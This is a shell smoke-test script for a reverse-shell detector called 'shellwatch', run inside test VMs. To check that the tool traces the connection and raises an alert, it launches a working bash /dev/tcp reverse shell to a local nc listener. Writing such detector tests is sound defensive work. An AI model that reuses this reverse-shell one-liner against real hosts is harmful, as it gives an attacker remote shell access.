# smoke.sh: the live smoke test run inside each kernel-matrix guest (by guest/init, with bash), TAP
# on stdout. `shellwatch record` while a bash /dev/tcp reverse shell connects to a busybox nc
# listener on the guest's loopback: the trace must show the connect, the listener's accept, the dup2
# onto stdin and the shell's exec with the socket on stdin. Then the degraded paths on this real
# kernel: a tracefs without one tracepoint (one warning, the rest still works) and no BTF (one error
# line, exit 1). Then `shellwatch run` must alert once on the same reverse shell. Last, the probing
# unit tests. Every wait is bounded (wait_until from tests/lib.sh).
export SW_ROOT=/ SW_BUILD=/sw SW_BIN=/sw/shellwatch SW_TMP=/tmp/sw
mkdir -p "$SW_TMP"
. /lib.sh
port=4444
rel=$(uname -r)
tfs=/sys/kernel/tracing
fails=0

# run_tap NAME CMD...: a TAP program's lines, renamed "NAME: ..."; a crash counts as a failure.
run_tap() {
	local name=$1 rc
	shift
	"$@" >"$SW_TMP/tap.out" 2>&1
	rc=$?
	sed -E "s/^(not )?ok [0-9]+ - /\1ok - $name: /" "$SW_TMP/tap.out"
	[ "$rc" -eq 0 ] || grep -q '^not ok' "$SW_TMP/tap.out" || tap_fail "$name exited with $rc"
}

# expect NAME CMD...: like check, and failures are counted (the trace is shown when any failed).
expect() {
	local n=$1
	shift
	if "$@"; then tap_ok "$n"; else tap_fail "$n" "failed: $*"; fails=$((fails + 1)); fi
}

nc_listening() { netstat -ltn 2>/dev/null | grep -q ":$port "; }
trace_has() { grep -qE "$1" "$SW_TMP/trace"; }
exited() { ! kill -0 "$1" 2>/dev/null; }

# The reverse shell: nc sends two commands, the shell's output comes back over the socket.
reverse_shell() {
	(printf 'uname -r\nexit\n' | timeout 30 nc -l -p "$port" >"$SW_TMP/nc.out") &
	local ncpid=$!
	wait_until 10 nc_listening || { tap_fail "$1: listener up"; return 1; }
	timeout 30 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
	wait "$ncpid"
	expect "$1: reverse shell ran (its output came back over the socket)" \
		grep -qF "$rel" "$SW_TMP/nc.out"
}

# record_shell NAME: `shellwatch record` around one reverse shell; the trace in $SW_TMP/trace.
record_shell() {
	local name=$1 rpid
	: >"$SW_TMP/trace"
	"$SW_BIN" record -o "$SW_TMP/trace" 2>"$SW_TMP/record.err" &
	rpid=$!
	# Capture is on once an exec we make shows up in the trace.
	ready() { /bin/true sw-ready-marker; trace_has 'sw-ready-marker' || exited "$rpid"; }
	if ! wait_until 60 ready || exited "$rpid"; then
		tap_fail "$name: record started" "$(cat "$SW_TMP/record.err")"
		return 1
	fi
	tap_ok "$name: record started"
	reverse_shell "$name"
	wait_until 10 trace_has "^execve .*fd0=sock:inet"
	kill -INT "$rpid"
	wait_until 20 exited "$rpid" || kill -9 "$rpid"
	expect "$name: record exited cleanly" wait "$rpid"
}

show_trace() {
	[ "$fails" = 0 ] && return
	sed 's/^/# record: /' "$SW_TMP/record.err"
	grep -E '^(connect|accept|dup|execve)' "$SW_TMP/trace" | tail -n 12 | sed 's/^/# trace: /'
	fails=0
}

smoke_full() {
	record_shell full || return
	expect "full: shellwatch mounted tracefs itself" grep -q " $tfs tracefs " /proc/mounts
	expect "full: trace has the connect to port $port" \
		trace_has "^connect .*family=inet addr=127\.0\.0\.1 port=$port => 0"
	expect "full: trace has the listener's accept" trace_has "^accept4? .*comm=nc .*family=inet"
	expect "full: trace has a dup2 of the socket onto stdin" trace_has "^dup2 .*newfd=0 .*sock=1"
	expect "full: trace has the shell's exec with the socket on stdin" \
		trace_has "^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
	# the receive hook exists from Linux 6.3: one warning below it, none from it on (the other
	# warnings of this kernel are checked below)
	if [ "$(printf '%s\n6.3\n' "$(uname -r | cut -d- -f1)" | sort -V | head -1)" = 6.3 ]; then
		expect "full: the receive hook is on (Linux 6.3+)" \
			eval '! grep -q "sock_recv_length" "$SW_TMP/record.err"'
	else
		expect "full: one warning: no receive hook before Linux 6.3" \
			eval 'grep -q "warning: on_recv (tp_btf/sock_recv_length) disabled" "$SW_TMP/record.err"'
	fi
	show_trace
}

# fake_tracefs REGEX: mount over tracefs a copy of its syscall event ids without the events whose
# name matches REGEX, as on a kernel that lacks them. Undo with `umount $tfs`.
fake_tracefs() {
	local d id fake=$SW_TMP/fake-tracefs events=()
	rm -rf "$fake"
	mkdir -p "$fake/events/syscalls"
	for d in "$tfs"/events/syscalls/sys_*; do
		[[ "${d##*/}" =~ $1 ]] || events+=("${d##*/}")
	done
	# One mkdir and shell built-ins only: a fork per event takes a minute under TCG.
	[ "${#events[@]}" = 0 ] || (cd "$fake/events/syscalls" && mkdir -p "${events[@]}")
	for d in "${events[@]}"; do
		read -r id <"$tfs/events/syscalls/$d/id" && echo "$id" >"$fake/events/syscalls/$d/id"
	done
	mount --bind "$fake" "$tfs"
}

# A kernel without the sys_exit_dup2 tracepoint (like arm64): one warning; the shell is still
# caught, without the dup2.
smoke_no_dup2() {
	fake_tracefs '^sys_exit_dup2$' || { tap_fail "no dup2: mount the fake tracefs"; return; }
	record_shell "no dup2"
	umount "$tfs"
	expect "no dup2: one warning line, naming the program and the loss" \
		test "$(grep 'warning' "$SW_TMP/record.err" | grep -vc 'sock_recv_length')" = 1
	expect "no dup2: it says what is missing" grep -qF "exit_dup2 (tracepoint/syscalls/sys_exit_dup2) \
disabled: this kernel has no tracepoint syscalls/sys_exit_dup2; dup2 redirections" "$SW_TMP/record.err"
	expect "no dup2: trace has no dup2" eval '! trace_has "^dup2 "'
	expect "no dup2: trace still has the shell's exec with the socket on stdin" \
		trace_has "^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
	show_trace
}

# A kernel without syscall tracepoints (CONFIG_FTRACE_SYSCALLS unset): a warning for each syscall
# program and none for the others; execs with their stdio sockets are still seen and alerted on.
smoke_no_syscalls() {
	fake_tracefs . || { tap_fail "no syscalls: mount the fake tracefs"; return; }
	record_shell "no syscalls"
	expect "no syscalls: a warning for each syscall program, no other" eval \
		'grep -q "tracepoint/syscalls/" "$SW_TMP/record.err" && ! grep "warning" "$SW_TMP/record.err" | grep -v "sock_recv_length" | grep -qv "(tracepoint/syscalls/"'
	expect "no syscalls: trace has no connect" eval '! trace_has "^connect "'
	expect "no syscalls: trace still has the shell's exec with the socket on stdin" \
		trace_has "^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
	show_trace
	smoke_detect "no syscalls"
	umount "$tfs"
}

# smoke_detect NAME: `shellwatch run` alerts once on the reverse shell, with the listener as peer.
smoke_detect() {
	local pid alerts=$SW_TMP/alerts n=$1
	: >"$alerts"
	"$SW_BIN" run --json -o "$alerts" 2>"$SW_TMP/run.err" &
	pid=$!
	run_ready() { grep -q 'ready' "$SW_TMP/run.err" || exited "$pid"; }
	alerted() { grep -qE "\"destination\":\\{[^}]*\"port\":$port[,}]" "$alerts"; }
	if ! wait_until 60 run_ready || exited "$pid"; then
		tap_fail "$n: run started" "$(cat "$SW_TMP/run.err")"
		return
	fi
	tap_ok "$n: run started"
	reverse_shell "$n"
	expect "$n: an alert for the reverse shell" wait_until 20 alerted
	kill -TERM "$pid"
	wait_until 20 exited "$pid" || kill -9 "$pid"
	expect "$n: run exited cleanly" wait "$pid"
	expect "$n: exactly one alert for it" \
		test "$(grep -cE "\"destination\":\\{[^}]*\"port\":$port[,}]" "$alerts")" = 1
	expect "$n: the alert names the listener as peer" grep -qF '"destination":{"ip":"127.0.0.1"' "$alerts"
	[ "$fails" = 0 ] || { sed 's/^/# run: /' "$SW_TMP/run.err"; sed 's/^/# alert: /' "$alerts"; }
	fails=0
}

# No kernel BTF: shellwatch refuses with one line and exit code 1.
smoke_no_btf() {
	local rc
	mount -t tmpfs none /sys/kernel/btf || { tap_fail "no BTF: hide /sys/kernel/btf"; return; }
	timeout 30 "$SW_BIN" record -o "$SW_TMP/trace" 2>"$SW_TMP/record.err"
	rc=$?
	umount /sys/kernel/btf
	expect "no BTF: exit code 1" test "$rc" = 1
	expect "no BTF: one error line saying what to do" eval \
		'test "$(wc -l <"$SW_TMP/record.err")" = 1 && grep -q "BTF.*CONFIG_DEBUG_INFO_BTF" "$SW_TMP/record.err"'
	[ "$fails" = 0 ] || sed 's/^/# stderr: /' "$SW_TMP/record.err"
	fails=0
}

if [ -x "$SW_BIN" ] && "$SW_BIN" record --help >/dev/null 2>&1; then
	smoke_full
	smoke_no_dup2
	smoke_no_btf
else
	tap_fail "shellwatch record is available in the guest"
fi
if "$SW_BIN" run --help >/dev/null 2>&1; then
	smoke_detect detect
	smoke_no_syscalls
else
	echo "# shellwatch run not available: detection not checked"
fi
run_tap probe /sw/test_probe
